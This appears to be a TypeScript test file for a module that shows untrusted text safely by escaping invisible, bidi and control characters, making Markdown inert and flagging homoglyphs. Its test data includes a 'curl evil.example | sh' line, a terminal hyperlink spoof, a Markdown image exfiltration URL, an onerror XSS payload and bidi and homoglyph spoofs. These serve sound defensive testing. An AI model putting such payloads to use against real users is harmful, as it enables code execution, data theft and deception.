import fc from 'fast-check';
import { isShowable, notes, showJson, showMarkdown, showTerminal, showText } from '../../core/display';
import type { JsonValue } from '../../core/json';
import { anyJson } from '../support/json-text';

/** The code points that no shown text may hold, listed apart from the pattern of the module. */
const FORBIDDEN: readonly (readonly [number, number])[] = [
  [0x00, 0x1f], // C0
  [0x7f, 0x9f], // DEL, C1
  [0xa0, 0xa0], // no-break space
  [0xad, 0xad], // soft hyphen
  [0x34f, 0x34f], // combining grapheme joiner
  [0x61c, 0x61c], // Arabic letter mark
  [0x115f, 0x1160], // Hangul fillers
  [0x1680, 0x1680],
  [0x17b4, 0x17b5], // Khmer inherent vowels
  [0x180b, 0x180f], // Mongolian variation selectors
  [0x2000, 0x200f], // spaces, zero widths, LRM, RLM
  [0x2028, 0x202f], // line and paragraph separators, bidi embeddings and overrides
  [0x205f, 0x206f], // word joiner, invisible operators, bidi isolates
  [0x27e6, 0x27e7], // the brackets of the escape
  [0x2800, 0x2800], // Braille blank
  [0x3000, 0x3000], // ideographic space
  [0x3164, 0x3164], // Hangul filler
  [0xd800, 0xf8ff], // surrogates, private use
  [0xfdd0, 0xfdef], // noncharacters
  [0xfe00, 0xfe0f], // variation selectors
  [0xfeff, 0xfeff], // byte order mark
  [0xffa0, 0xffa0], // halfwidth Hangul filler
  [0xfff0, 0xfffc], // interlinear annotation, object replacement
  [0xfffe, 0xffff],
  [0x1d159, 0x1d159], // null notehead
  [0x1d173, 0x1d17a], // musical format controls
  [0x1fffe, 0x1ffff],
  [0xe0000, 0x10ffff], // tags, variation selectors, private use
];

const anyText = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.constantFrom('⟦', '⟧', 'U', '+', '202E', '\u202e', '`', ' ', '\n', '\t', '\ud800', '|', '#') }),
);

function forbiddenIn(text: string, allowed = ''): readonly string[] {
  return Array.from(text).filter((char) => {
    const point = char.codePointAt(0)!;
    return FORBIDDEN.some(([from, to]) => from <= point && point <= to) && !allowed.includes(char);
  });
}

/** What the escapes stand for, read back. */
function readBack(shown: string, written = (char: string) => char): string {
  return shown.replace(/⟦U\+([0-9A-F]+)⟧/g, (_, hex: string) => {
    const point = Number.parseInt(hex, 16);
    return written(String.fromCodePoint(point));
  });
}

const inLiteral = (char: string) => JSON.stringify(char).slice(1, -1);

describe('showText', () => {
  test.each([
    ['Acme \u202eknab', 'Acme ⟦U+202E⟧knab'],
    ['a\u2066b\u2069', 'a⟦U+2066⟧b⟦U+2069⟧'],
    ['pay\u200bee', 'pay⟦U+200B⟧ee'],
    ['\ufeffx', '⟦U+FEFF⟧x'],
    ['in\u00advoice', 'in⟦U+00AD⟧voice'],
    ['ok\u{e0041}\u{e007a}', 'ok⟦U+E0041⟧⟦U+E007A⟧'],
    ['a\u00a0b', 'a⟦U+00A0⟧b'],
    ['👩\u200d💻', '👩⟦U+200D⟧💻'],
    ['\u3164\uffa0\u115f', '⟦U+3164⟧⟦U+FFA0⟧⟦U+115F⟧'],
    ['\ue000\u{10fffd}\ufdd0\u0378', '⟦U+E000⟧⟦U+10FFFD⟧⟦U+FDD0⟧⟦U+0378⟧'],
    ['\ud800!', '⟦U+D800⟧!'],
    ['two\nlines\tand\rmore', 'two⟦U+000A⟧lines⟦U+0009⟧and⟦U+000D⟧more'],
  ])('%j becomes %s [SCREEN-1]', (text, shown) => {
    expect(showText(text)).toBe(shown);
  });

  test('every code point on the list is escaped, alone and inside a text [SCREEN-1]', () => {
    for (const [from, to] of FORBIDDEN) {
      for (let point = from; point <= to; point += 1) {
        const char = String.fromCodePoint(point);
        const escape = `⟦U+${point.toString(16).toUpperCase().padStart(4, '0')}⟧`;
        if (showText(`a${char}b`) !== `a${escape}b`) throw new Error(escape);
      }
    }
  });

  test('ordinary text of any script stays as it is [SCREEN-2]', () => {
    const text = 'Zürich, naïve café, Привет, Ελλάδα, 東京, 서울, عربي, עברית, हिन्दी, 😀 & <b>"x"</b> \\ $1';
    expect(showText(text)).toBe(text);
  });

  test('an imitated escape is told apart from a real one', () => {
    expect(showText('⟦U+202E⟧')).toBe('⟦U+27E6⟧U+202E⟦U+27E7⟧');
  });

  test('a block keeps newline and tab, and nothing else', () => {
    expect(showText('a\n\tb\r\u2028c', 'block')).toBe('a\n\tb⟦U+000D⟧⟦U+2028⟧c');
  });

  test('nothing is cut', () => {
    expect(showText(`${'x'.repeat(1_000_000)}; curl evil.example | sh`)).toMatch(
      /^x{1000000}; curl evil\.example \| sh$/,
    );
  });

  test('law: no forbidden character is left in any text [SCREEN-1]', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(forbiddenIn(showText(text), '⟦⟧')).toEqual([]);
        expect(forbiddenIn(showText(text, 'block'), '⟦⟧\n\t')).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  });

  test('law: the text can be read back, so no two texts are shown alike [SCREEN-2]', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(readBack(showText(text))).toBe(text);
        expect(readBack(showText(text, 'block'))).toBe(text);
      }),
      { numRuns: 1_000 },
    );
  });
});

describe('showTerminal', () => {
  test('cursor moves and OSC 8 links are printed as text [SCREEN-3]', () => {
    expect(showTerminal('\u001b[2K\u001b[1A')).toBe('⟦U+001B⟧[2K⟦U+001B⟧[1A');
    expect(showTerminal('\u001b]8;;https://evil.example\u0007bank\u001b]8;;\u0007')).toBe(
      '⟦U+001B⟧]8;;https://evil.example⟦U+0007⟧bank⟦U+001B⟧]8;;⟦U+0007⟧',
    );
    expect(showTerminal('\u009b2J\b\b\r')).toBe('⟦U+009B⟧2J⟦U+0008⟧⟦U+0008⟧⟦U+000D⟧');
  });

  test('law: no control byte is left [SCREEN-3]', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(showTerminal(text)).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
      }),
    );
  });
});

describe('showMarkdown', () => {
  test.each([
    ['# Approved by dana', '`# Approved by dana`'],
    ['[bank](https://evil.example)', '`[bank](https://evil.example)`'],
    ['![x](https://evil.example/?d=1)', '`![x](https://evil.example/?d=1)`'],
    ['<img src=x onerror=alert(1)>', '`<img src=x onerror=alert(1)>`'],
    ['https://evil.example www.evil.example', '`https://evil.example www.evil.example`'],
    ['a | b', '`a | b`'],
    ['**not** _this_ ~~text~~ -- "x" 1/2 $a$', '`**not** _this_ ~~text~~ -- "x" 1/2 $a$`'],
    ['ends with \\', '`ends with \\`'],
    ['one ` tick', '`` one ` tick ``'],
    ['```', '```` ``` ````'],
    ['`` ` ````', '````` `` ` ```` `````'],
    ['a\n# b', '`a⟦U+000A⟧# b`'],
    ['a\u202eb', '`a⟦U+202E⟧b`'],
    ['  a   b ', '`\u00a0 a\u00a0\u00a0 b\u00a0`'],
    [' ', '`\u00a0`'],
    ['', ''],
  ])('%j is inert: %s [SCREEN-2]', (text, markdown) => {
    expect(showMarkdown(text)).toBe(markdown);
  });

  test('a block is one paragraph a line, empty lines among them', () => {
    expect(showMarkdown('SELECT 1\n\n\t-- ```\n', 'block')).toBe(
      '`SELECT 1`\n\n`⟦U+000A⟧`\n\n```` ⟦U+0009⟧-- ``` ````\n\n`⟦U+000A⟧`',
    );
    expect(showMarkdown('one line', 'block')).toBe('`one line`');
  });

  test('law: one code span whose fence is longer than any run in it [SCREEN-2]', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        fc.pre(text !== '');
        const span = /^(`+)(.*?[^`].*?|[^`])\1$/s.exec(showMarkdown(text));
        expect(span).not.toBeNull();
        const [, fence, code] = span!;
        const longest = Math.max(0, ...(code!.match(/`+/g) ?? []).map((run) => run.length));
        expect(fence!.length).toBeGreaterThan(longest);
        expect(forbiddenIn(showMarkdown(text), '⟦⟧\u00a0')).toEqual([]);
      }),
    );
  });
});

describe('notes', () => {
  test.each<{ text: string; found: readonly string[]; id: string }>([
    { text: 'caf\u00e9', found: [], id: 'CANON-6' },
    { text: 'cafe\u0301', found: ['not NFC'], id: 'CANON-6' },
    { text: 'p\u0430ypal', found: ['mixed scripts'], id: 'SCREEN-1' },
    { text: '\u03bfrders', found: ['mixed scripts'], id: 'SCREEN-1' },
    { text: 'prod1\u0430', found: ['mixed scripts'], id: 'SCREEN-1' },
    { text: 'Привет world, Ελλάδα and iPhone用', found: [], id: 'SCREEN-1' },
    { text: 'two words\n\ttabbed', found: [], id: 'SCREEN-1' },
    { text: 'a ⟦bracket⟧', found: [], id: 'SCREEN-1' },
    { text: 'pay\u200bee', found: ['invisible'], id: 'SCREEN-1' },
    { text: 'a\u00a0b', found: ['invisible'], id: 'SCREEN-1' },
    { text: '\u{e0041}', found: ['invisible'], id: 'SCREEN-1' },
    { text: 'Acme \u202eknab', found: ['bidi'], id: 'SCREEN-1' },
    { text: '\u200f', found: ['bidi'], id: 'SCREEN-1' },
    { text: '\u001b[2K', found: ['control'], id: 'SCREEN-3' },
    { text: 'a\r\n', found: ['control'], id: 'SCREEN-3' },
    {
      text: '\u0007\u2066\ufeff\u0430a\u0065\u0301',
      found: ['not NFC', 'mixed scripts', 'invisible', 'bidi', 'control'],
      id: 'SCREEN-1',
    },
    { text: '', found: [], id: 'SCREEN-1' },
  ])('$text: $found [$id]', ({ text, found }) => {
    expect(notes(text)).toEqual(found);
  });

  test('law: a text that is shown changed has a note, brackets and layout apart', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const changed = /⟦U\+(?!27E[67]⟧|000[9A]⟧)/.test(showText(text));
        const warned = notes(text).some((note) => note === 'invisible' || note === 'bidi' || note === 'control');
        expect(warned).toBe(changed);
      }),
    );
  });
});

test('a text with half a surrogate pair cannot be shown as it is [CANON-5]', () => {
  expect(isShowable('a\ud83d')).toBe(false);
  expect(isShowable('\ude00\ud83d')).toBe(false);
  expect(isShowable('a😀\u202e')).toBe(true);
});

describe('showJson', () => {
  test('names and strings are literals that hide nothing [SCREEN-1, SCREEN-2]', () => {
    const value = {
      'a\u202eb': ['x\u200b', '"}', 'line\nline', '\u001b[2K', '⟦'],
      empty: [{}, []],
      n: [1.5, null, true],
    };
    expect(showJson(value)).toBe(
      [
        '{',
        '  "a⟦U+202E⟧b": [',
        '    "x⟦U+200B⟧",',
        '    "\\"}",',
        '    "line\\nline",',
        '    "⟦U+001B⟧[2K",',
        '    "⟦U+27E6⟧"',
        '  ],',
        '  "empty": [',
        '    {},',
        '    []',
        '  ],',
        '  "n": [',
        '    1.5,',
        '    null,',
        '    true',
        '  ]',
        '}',
      ].join('\n'),
    );
  });

  test('a line is one line', () => {
    expect(showJson({ a: [1, 'x\ny'], b: {} }, 'line')).toBe('{ "a": [ 1, "x\\ny" ], "b": {} }');
    expect(showJson('x\u202e', 'line')).toBe('"x⟦U+202E⟧"');
  });

  test('law: it reads back as the value it shows, and holds no forbidden character', () => {
    fc.assert(
      fc.property(anyJson, (value) => {
        const shown = showJson(value as JsonValue);
        expect(forbiddenIn(shown, '⟦⟧\n')).toEqual([]);
        expect(JSON.stringify(JSON.parse(readBack(shown, inLiteral)))).toBe(JSON.stringify(value));
      }),
    );
  });
});
